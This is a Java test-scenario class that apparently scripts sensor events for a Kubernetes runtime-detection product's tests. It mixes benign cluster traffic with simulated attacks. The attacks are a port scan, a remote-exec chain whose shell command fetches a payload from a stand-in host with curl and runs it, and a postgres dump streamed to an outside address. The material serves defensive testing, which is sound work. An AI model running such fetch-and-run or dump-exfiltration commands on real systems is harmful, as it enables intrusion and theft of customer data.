package dev.ringfence.jobs.scenario;

import dev.ringfence.contract.FlowEnd;

/**
 * A two-node cluster running a small shop, its background traffic, and the attacks the detectors must find.
 * Each method appends to an {@link EventScript}; the benign background alone must raise nothing.
 *
 * <p>node-a: frontend (python app), report cron job, CI build pod; node-b: api server, postgres.
 * The frontend pod's IP was held earlier by a batch pod that was deleted (pod IP reuse).
 */
public final class ShopCluster {
    public static final String EXTERNAL_MIRROR = "151.101.2.132";
    public static final String EXFIL_DESTINATION = "203.0.113.50";
    public static final String PAYLOAD_HOST = "203.0.113.9";
    public static final String KUBELET_IP = "10.1.255.1";

    public final Pod oldBatch = new Pod("node-a", "ops", "Deployment", "old-batch", "old-batch-7d9", "10.1.0.10", 11);
    public final Pod frontend = new Pod("node-a", "shop", "Deployment", "frontend", "frontend-5f4", "10.1.0.10", 12);
    public final Pod cron = new Pod("node-a", "ops", "CronJob", "report", "report-2901", "10.1.0.40", 13);
    public final Pod build = new Pod("node-a", "ci", "Job", "builder", "builder-x1", "10.1.0.50", 14);
    public final Pod api = new Pod("node-b", "shop", "Deployment", "api", "api-6c8", "10.1.1.20", 21);
    public final Pod db = new Pod("node-b", "shop", "StatefulSet", "postgres", "postgres-0", "10.1.1.30", 22);

    public final EventScript script = new EventScript();
    public Proc frontendApp;
    public Proc cronDaemon;
    public Proc apiServer;
    public Proc postgres;
    private Proc batch;
    /** The pid of a short-lived api process, reused later by the attacker's shell. */
    private int migratePid;

    /** Pods come up; the batch pod talks to the api, then goes away and its IP passes to the frontend. */
    public ShopCluster startup() {
        script.identity(oldBatch, 0).identity(cron, 0).identity(build, 0).identity(api, 0).identity(db, 0);
        batch = script.exec(oldBatch, null, 100, "/usr/local/bin/batch", "--once");
        apiServer = script.exec(api, null, 200, "/usr/local/bin/api-server", "--port", "8080");
        postgres = script.exec(db, null, 200, "/usr/lib/postgresql/16/bin/postgres", "-D", "/data");
        Proc migrate = script.exec(api, apiServer, 250, "/usr/local/bin/migrate", "--up");
        migratePid = migrate.pid();
        script.exit(migrate, 280);
        cronDaemon = script.exec(cron, null, 300, "/usr/sbin/cron", "-f");
        script.call(batch, apiServer, 8080, 1_000);
        script.exit(batch, 2_000);
        script.identityDeleted(oldBatch, 2_500);
        script.identity(frontend, 3_000);
        frontendApp = script.exec(frontend, null, 3_100, "/usr/bin/python3", "/app/server.py");
        return this;
    }

    /**
     * Service-to-service calls, kubelet health checks, a cron job every 10 s and a package install in the build
     * pod at the start and 60 s later.
     */
    public ShopCluster background(long fromMs, long toMs) {
        for (long t = fromMs; t < toMs; t += 2_000) {
            script.call(frontendApp, apiServer, 8080, t + 10);
            script.call(apiServer, postgres, 5432, t + 20);
            if ((t - fromMs) % 5_000 < 2_000) {
                script.inboundOnly(apiServer, KUBELET_IP, 8080, t + 30);
            }
            if ((t - fromMs) % 10_000 < 2_000) {
                cronRun(t + 40);
            }
            if ((t - fromMs) % 60_000 < 2_000) {
                packageInstall(t + 50);
            }
        }
        return this;
    }

    private void cronRun(long atMs) {
        Proc shell = script.exec(cron, cronDaemon, atMs, "/bin/sh", "-c", "/usr/local/bin/report --daily");
        Proc report = script.exec(cron, shell, atMs + 5, "/usr/local/bin/report", "--daily");
        script.call(report, postgres, 5432, atMs + 10);
        script.exit(report, atMs + 200).exit(shell, atMs + 210);
    }

    private void packageInstall(long atMs) {
        Proc shell = script.exec(build, null, atMs, "/bin/sh", "-c", "apt-get install -y build-essential");
        Proc apt = script.exec(build, shell, atMs + 5, "/usr/bin/apt-get", "install", "-y", "build-essential");
        Proc http = script.exec(build, apt, atMs + 10, "/usr/lib/apt/methods/http");
        script.outbound(http, EXTERNAL_MIRROR, 80, atMs + 400, FlowEnd.CLOSED, 20_000);
        Proc dpkg = script.exec(build, apt, atMs + 500, "/usr/bin/dpkg", "-i", "/var/cache/apt/archives/gcc.deb");
        script.exit(dpkg, atMs + 900).exit(http, atMs + 910).exit(apt, atMs + 950).exit(shell, atMs + 960);
    }

    /**
     * A new workload on each node calls a service: its first edges appear in the service graph at once and
     * alert nothing (its baselines just started). Seeing both edges means both nodes' events went through.
     */
    public ShopCluster sentinels(String name, long atMs) {
        Pod onA = new Pod("node-a", "ops", "Deployment", name + "-a", name + "-a-1", "10.1.0.90", 91);
        Pod onB = new Pod("node-b", "ops", "Deployment", name + "-b", name + "-b-1", "10.1.1.90", 92);
        script.identity(onA, atMs).identity(onB, atMs);
        script.call(script.exec(onA, null, atMs + 10, "/usr/bin/probe"), apiServer, 8080, atMs + 20);
        script.call(script.exec(onB, null, atMs + 10, "/usr/bin/probe"), postgres, 5432, atMs + 20);
        return this;
    }

    public static String sentinelEdge(String name, String node) {
        return node.equals("node-a") ? "ops/Deployment/" + name + "-a|shop/Deployment/api|TCP|8080"
                : "ops/Deployment/" + name + "-b|shop/StatefulSet/postgres|TCP|5432";
    }

    /** The frontend probes the api's node range: mostly refused, a few open ports (one is postgres). */
    public ShopCluster scan(long atMs) {
        Proc scanner = script.exec(frontend, frontendApp, atMs, "/usr/bin/python3", "-c", "import socket...");
        int[] ports = {22, 80, 443, 3306, 5432, 6379, 8080, 9200};
        int n = 0;
        for (int host = 1; host <= 4; host++) {
            for (int port : ports) {
                String ip = "10.1.2." + host;
                script.outbound(scanner, ip, port, atMs + 100 + 10L * n++, FlowEnd.CONNECT_FAILED, 0);
            }
        }
        script.connect(scanner, db, postgres, 5432, atMs + 100 + 10L * n, FlowEnd.CLOSED, 60, 120);
        script.exit(scanner, atMs + 1_000);
        return this;
    }

    /**
     * The remote-exec chain, as sensors report it: the exploit's connection is reported when it closes, after
     * the shell and curl it led to; the shell reuses the pid of an earlier api process.
     */
    public Proc remoteExec(long atMs) {
        Proc shell = script.execWithPid(api, apiServer, atMs + 500, migratePid, "/bin/sh", "-c",
                "curl -s http://" + PAYLOAD_HOST + "/x -o /tmp/x; chmod +x /tmp/x; /tmp/x");
        script.longCall(frontendApp, apiServer, 8080, atMs, atMs + 900);
        Proc curl = script.exec(api, shell, atMs + 600, "/usr/bin/curl", "-s", "http://" + PAYLOAD_HOST + "/x");
        script.outbound(curl, PAYLOAD_HOST, 80, atMs + 700, FlowEnd.CLOSED, 300);
        script.exit(curl, atMs + 800);
        return shell;
    }

    /** What the shell of {@link #remoteExec} runs next: the downloaded payload. */
    public Proc payload(Proc shell, long atMs) {
        return script.exec(api, shell, atMs, "/tmp/x");
    }

    /** The postgres pod streams a dump to an address outside the cluster: three reports of one flow. */
    public ShopCluster exfiltration(long atMs) {
        Proc dump = script.exec(db, postgres, atMs, "/usr/lib/postgresql/16/bin/pg_dump", "shop");
        script.longFlow(dump, EXFIL_DESTINATION, 443, atMs + 100, 10_000,
                20L << 20, 45L << 20, 70L << 20);
        return this;
    }
}
